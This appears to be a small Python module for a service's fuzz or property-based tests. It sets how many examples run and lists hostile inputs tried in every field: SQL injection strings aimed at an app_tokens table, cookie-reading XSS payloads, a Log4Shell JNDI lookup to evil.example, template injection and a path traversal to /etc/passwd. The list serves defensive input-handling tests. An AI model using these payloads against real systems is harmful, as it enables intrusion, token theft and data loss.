"""How many examples the property-based tests try: a bounded number in CI, more when asked
(scripts/fuzz-service sets EXTRANET_BRIDGE_FUZZ_EXAMPLES for the long runs in docs/RELIABILITY.md)."""

from __future__ import annotations

import os

EXAMPLES = int(os.environ.get("EXTRANET_BRIDGE_FUZZ_EXAMPLES", "150"))

HOSTILE = (
    "' OR '1'='1",
    "1; DROP TABLE app_tokens; --",
    '" UNION SELECT access_token FROM app_tokens --',
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "../../../../etc/passwd",
    "%00",
    "\\u0000",
    "a" * 5000,
    "😀" * 50,
    "ИВАНОВ Иван",
)
"""SQL-ish, script-ish and template-ish strings, path tricks, encodings and sizes tried in every field."""
